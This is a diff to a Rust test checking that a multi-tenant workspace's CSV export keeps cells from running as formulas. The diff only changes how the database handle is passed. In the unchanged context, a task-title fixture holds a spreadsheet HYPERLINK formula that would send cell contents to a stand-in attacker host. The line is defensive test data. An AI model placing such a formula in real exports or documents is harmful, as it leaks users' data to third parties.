@@ -673,7 +673,7 @@ async fn exported_csv_cells_do_not_run_as_formulas() {
     let t = &server.tenancy;
     let acme = t.tenants().create(silo_tenancy::CreateTenant::with_slug("acme"), "test").await.unwrap();
     let db = t.db(acme.id).await.unwrap();
-    let project = silo_workspace::projects::create(&db, "P", "", None).unwrap();
+    let project = silo_workspace::projects::create(&db.turn().await, "P", "", None).unwrap();
     let title = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
     let task = silo_workspace::tasks::NewTask {
         project_id: project,
@@ -683,7 +683,7 @@ async fn exported_csv_cells_do_not_run_as_formulas() {
         assignee_id: None,
         due_date: None,
     };
-    silo_workspace::tasks::create(&db, &task, None).unwrap();
+    silo_workspace::tasks::create(&db.turn().await, &task, None).unwrap();
     drop(db);
     let out = tempfile::tempdir().unwrap();
     let zip_path = out.path().join("acme.zip");
